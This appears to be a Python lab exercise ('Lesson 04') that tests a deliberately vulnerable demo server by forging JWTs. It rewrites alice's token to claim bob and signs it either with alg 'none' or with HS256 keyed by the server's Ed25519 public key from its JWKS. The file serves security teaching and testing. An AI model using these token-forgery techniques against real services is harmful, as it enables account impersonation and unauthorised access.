"""Lesson 04: a JWT verifier that lets the token pick its algorithm, against an allow-list."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from demo_server import DEMO_USERS

from . import attack


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@attack("/vuln/jwt/me")
def alg_none_and_public_key_hmac(app, target) -> bool:
    """Take a real token of alice's, rewrite sub to bob, and sign it with 'none' or with HS256
    keyed by the public key from the JWKS. Either one accepted as bob is a way in."""
    client = app.test_client()
    token = client.post("/jwt/login", json={"username": "alice", "password": DEMO_USERS["alice"]}).json["access_token"]
    claims = json.loads(_unb64(token.split(".")[1]))
    claims["sub"] = "bob"
    payload = _b64(json.dumps(claims).encode())

    unsigned = f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{payload}."
    jwk = client.get("/jwt/.well-known/jwks.json").json["keys"][0]
    pem = Ed25519PublicKey.from_public_bytes(_unb64(jwk["x"])).public_bytes(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    )
    hs_input = f"{_b64(json.dumps({'alg': 'HS256', 'typ': 'JWT', 'kid': jwk['kid']}).encode())}.{payload}"
    hs256 = f"{hs_input}.{_b64(hmac.new(pem, hs_input.encode(), hashlib.sha256).digest())}"

    for forged in (unsigned, hs256):
        answer = client.get(target, headers={"Authorization": f"Bearer {forged}"})
        if answer.status_code == 200 and answer.json.get("user") == "bob":
            return True
    return False
